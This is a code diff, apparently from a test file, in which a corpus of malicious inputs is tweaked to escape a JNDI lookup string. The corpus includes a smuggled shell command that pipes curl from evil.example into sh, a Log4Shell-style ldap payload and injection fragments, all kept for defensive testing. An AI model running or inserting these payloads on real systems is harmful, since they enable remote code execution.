@@ -14,7 +14,7 @@ const CORPUS = [
   '*bold* _it_ ~no~ `code` ```block``` > quote',
   '[click](https://evil.example) ![x](https://evil.example/x.png)',
   ':rotating_light: #heading\n- item',
-  '{{range .Alerts}}{{.Labels}}{{end}} ${jndi:ldap://evil.example}',
+  `{{range .Alerts}}{{.Labels}}{{end}} \${jndi:ldap://evil.example}`,
   '"} , {"severity":"low"',
   `a1; curl evil.example | sh #`,
   '\u0000\u0001',
